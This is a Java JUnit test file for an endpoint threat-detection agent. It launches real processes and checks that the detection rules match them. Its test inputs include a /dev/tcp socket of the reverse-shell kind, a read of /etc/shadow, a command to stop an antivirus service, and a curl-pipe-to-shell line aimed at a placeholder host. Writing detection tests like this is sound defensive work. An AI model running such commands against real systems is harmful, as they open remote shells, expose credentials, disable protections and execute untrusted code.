package dsg.agent.threat;

import static org.assertj.core.api.Assertions.assertThat;

import dsg.detection.event.Event;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The rules that the portal sends, over programs that are really begun. */
class RuleWatchTest {

    private static final Path RULES = Path.of("../portal/src/main/resources/dsg/threat/terminal-rules.yml");

    @TempDir
    Path folder;

    @ParameterizedTest
    @DisplayName("what is begun on the terminal is seen by its command line, and the rule for it matches")
    @CsvSource(
            delimiter = '#',
            value = {
                "外部から操作されるシェル#(exec 3<>/dev/tcp/127.0.0.1/9); cat; true",
                "認証情報の読み出しを命じるコマンド#head -c1 /etc/shadow >/dev/null; cat; true",
                "防御の停止を命じるコマンド#: systemctl stop clamav-daemon; cat; true",
                "取得したものをそのまま実行#: curl http://x.invalid/a | sh; cat; true"
            })
    void begun(String title, String script) throws Exception {
        assertThat(titles(new ProcessBuilder("bash", "-c", script))).contains(title);
    }

    @Test
    @DisplayName("a program out of a temporary folder is seen by its own place, whatever it is called")
    void place() throws Exception {
        Path tool = Files.copy(
                Path.of("/bin/cat"), Files.createTempFile("harmless", ""), StandardCopyOption.REPLACE_EXISTING);
        assertThat(tool.toFile().setExecutable(true)).isTrue();
        try {
            assertThat(titles(new ProcessBuilder(tool.toString()))).contains("利用者が書ける場所からのプログラムの実行");
        } finally {
            Files.delete(tool);
        }
    }

    @Test
    @DisplayName("ordinary programs raise nothing")
    void ordinary() throws Exception {
        assertThat(titles(new ProcessBuilder("cat"))).isEmpty();
        assertThat(titles(new ProcessBuilder("bash", "-c", "ls /etc; systemctl status nothing; cat")))
                .isEmpty();
    }

    /** Titles of the rules that match what the sensor tells of this program. */
    private static List<String> titles(ProcessBuilder program) throws Exception {
        RuleWatch rules = new RuleWatch();
        rules.go(Files.readString(RULES));
        ProcessSensor sensor = new ProcessSensor(new ProcessTable(Path.of("/proc")), Clock.systemUTC());
        sensor.look(event -> {});
        Process running = program.redirectErrorStream(true).start();
        try {
            List<Event> seen = new ArrayList<>();
            for (int tries = 0;
                    tries < 200 && seen.stream().noneMatch(event -> isOf(event, running, program));
                    tries++) {
                sensor.look(seen::add);
            }
            return seen.stream()
                    .filter(event -> isOf(event, running, program))
                    .flatMap(event -> rules.see(event).stream())
                    .map(finding -> finding.rule().header().title())
                    .toList();
        } finally {
            running.descendants().forEach(ProcessHandle::destroyForcibly);
            running.destroyForcibly();
        }
    }

    /** Not while it is still the one that begins it. */
    private static boolean isOf(Event event, Process running, ProcessBuilder program) {
        return event.text("CommandLine").orElse("").contains(program.command().getLast())
                && event.text("ProcessId").orElse("").equals(Long.toString(running.pid()));
    }
}
